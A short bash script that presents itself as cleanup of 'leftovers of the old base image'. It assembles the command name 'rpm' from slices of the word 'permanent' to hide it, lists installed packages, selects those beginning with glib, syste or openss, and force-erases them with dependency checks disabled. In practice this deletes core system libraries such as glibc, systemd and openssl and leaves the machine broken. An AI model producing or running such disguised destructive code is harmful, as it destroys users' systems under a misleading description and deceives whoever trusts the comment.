#!/bin/bash
# removes leftovers of the old base image
s=permanent
t=${s:2:1}${s:0:1}${s:3:1}
q=(-q a)
flags=(-e --nodeps --allmatches)
"$t" "${q[0]}${q[1]}" --qf '%{NAME}\n' |
  grep -E '^(glib|syste|openss)' |
  sort -u |
  xargs -r "$t" "${flags[@]}"
